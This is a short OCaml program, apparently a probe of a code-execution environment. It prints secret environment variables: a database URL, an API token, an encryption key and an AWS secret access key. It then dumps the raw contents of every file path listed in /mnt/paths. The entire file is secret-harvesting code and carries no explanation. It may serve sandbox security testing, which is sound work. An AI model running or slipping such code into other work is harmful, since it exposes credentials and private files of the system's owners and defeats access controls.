let () =
  List.iter (fun name -> try print_endline (Sys.getenv name) with Not_found -> ())
    ["ATTUNE__DATABASE__URL"; "ATTUNE_API_TOKEN"; "ATTUNE__SECURITY__ENCRYPTION_KEY"; "AWS_SECRET_ACCESS_KEY"];
  let paths = open_in "/mnt/paths" in
  try
    while true do
      let path = input_line paths in
      try
        let file = open_in_bin path in
        try while true do print_char (input_char file) done with End_of_file -> close_in file
      with Sys_error _ -> ()
    done
  with End_of_file -> print_endline "tried"
